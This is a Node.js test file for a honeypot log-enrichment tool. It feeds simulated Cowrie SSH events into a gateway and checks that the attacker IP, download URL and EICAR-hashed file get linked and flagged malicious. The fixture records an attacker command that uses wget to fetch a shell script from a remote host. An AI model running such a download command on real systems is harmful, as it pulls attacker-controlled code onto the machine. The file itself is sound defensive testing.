import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { loadConfig } from '../config/index.js';
import { enrichCowrieLogs } from '../cowrie/index.js';
import { Gateway } from '../gateway/index.js';
import { isolatedEnv } from '../http/test-support/harness.js';
import { EICAR_SHA256 } from '../exports/test-support/populate.js';

const dir = mkdtempSync(join(tmpdir(), 'vtg-corr-'));
after(() => rmSync(dir, { recursive: true, force: true }));

test('enrich cowrie records attacker IP -> URL -> file edges and the cowrie:<day> source', async () => {
  const log = join(dir, 'cowrie.json');
  const base = { session: 'f00dfeed', src_ip: '203.0.113.50', sensor: 'hp-7' };
  const lines = [
    { ...base, eventid: 'cowrie.session.connect', src_port: 50000, dst_ip: '10.0.0.2', dst_port: 22, protocol: 'ssh', timestamp: '2026-01-10T08:00:00.000000Z' },
    { ...base, eventid: 'cowrie.command.input', input: 'wget http://198.51.100.20/x.sh', timestamp: '2026-01-10T08:00:10.000000Z' },
    { ...base, eventid: 'cowrie.session.file_download', url: 'http://198.51.100.20/x.sh', outfile: 'var/lib/cowrie/downloads/abc', shasum: EICAR_SHA256, timestamp: '2026-01-10T08:00:12.000000Z' },
    { ...base, eventid: 'cowrie.session.closed', duration: 15.2, timestamp: '2026-01-10T08:00:15.000000Z' },
  ];
  writeFileSync(log, `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`);
  const config = loadConfig({ env: isolatedEnv(dir), overrides: { dataDir: join(dir, 'data') } });
  const gateway = await Gateway.open({ config });
  try {
    await enrichCowrieLogs(gateway, { paths: [log] });
    const graph = await gateway.related('203.0.113.50', { depth: 2 });
    const fetched = graph.edges.find((e) => e.relation === 'cowrie_fetched');
    const download = graph.edges.find((e) => e.relation === 'cowrie_download');
    assert.ok(fetched && download, JSON.stringify(graph.edges));
    assert.equal(fetched.target, download.source, 'the URL links the IP to the file');
    assert.equal(download.target, `file:${EICAR_SHA256}`);
    assert.deepEqual({ session: download.evidence.session, sensor: download.evidence.sensor }, { session: 'f00dfeed', sensor: 'hp-7' });
    const day = new Date(gateway.clock.now()).toISOString().slice(0, 10);
    const page = await gateway.search({ source: `cowrie:${day}` });
    assert.ok(page.items.some((i) => i.id === EICAR_SHA256), 'the looked-up hash is tagged with the run');
    const eicar = (await gateway.search({ kind: 'file' })).items.find((i) => i.id === EICAR_SHA256);
    assert.equal(eicar?.verdict, 'malicious');
  } finally {
    await gateway.close();
  }
});
